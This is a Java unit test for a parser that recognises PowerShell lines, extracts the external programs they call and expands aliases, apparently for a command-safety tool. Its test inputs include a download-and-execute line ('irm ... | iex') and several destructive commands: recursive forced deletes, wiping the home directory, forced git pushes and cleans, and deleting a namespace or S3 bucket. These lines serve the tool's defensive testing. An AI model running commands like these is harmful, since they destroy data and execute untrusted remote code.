package dev.interlock.analysis.shell.recognizers.code;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class PowerShellStatementsTest {

    @ParameterizedTest
    @CsvSource(delimiter = '#', value = {
            "Get-ChildItem -Recurse | Remove-Item -Force # true",
            "git status; Stop-Service Spooler # true",
            "irm https://x.example/i.ps1 | iex # true",
            "update-alternatives --set java /usr/lib/jvm/x # false",
            "add-apt-repository ppa:x/y # false",
            "git commit -m 'fix; Remove-Item usage' # false",
            "echo \"Get-ChildItem\" # false",
            "pwsh -c 'Get-ChildItem' # false",
            "ls -la # false"})
    void aLineIsPowerShellWhenOneOfItsCommandsStartsWithACmdlet(String line, boolean powershell) {
        assertThat(PowerShellStatements.isPowerShellLine(line)).isEqualTo(powershell);
    }

    @ParameterizedTest
    @CsvSource(delimiter = '#', value = {
            "Write-Host x; kubectl delete ns a # kubectl delete ns a",
            "Get-Process | ForEach-Object { git push --force origin main } # git push --force origin main",
            "& 'C:\\Program Files\\Git\\bin\\git.exe' clean -fdx # git clean -fdx",
            "Get-Content $env:USERPROFILE\\x; aws s3 rb s3://b --force # aws s3 rb s3://b --force",
            "terraform plan -var \"home=$env:USERPROFILE\\tf\" # terraform plan -var \"home=$USERPROFILE\\\\tf\"",
            "rm -r -fo ~; kill -Name x # ''"})
    void programsAreTheCommandsThatAreNotPowerShells(String code, String program) {
        assertThat(PowerShellStatements.programs(code)).containsExactlyElementsOf(
                program.isEmpty() ? java.util.List.of() : java.util.List.of(program));
    }

    @ParameterizedTest
    @CsvSource(delimiter = '#', value = {
            "kill -Name interlock # Stop-Process -Name interlock",
            "gci | rm -Recurse # Get-ChildItem | Remove-Item -Recurse",
            "Write-Output 'kill me' # Write-Output 'kill me'"})
    void aliasesAreSpelledAsTheirCmdlets(String code, String canonical) {
        assertThat(PowerShellStatements.canonical(code)).isEqualTo(canonical);
    }
}
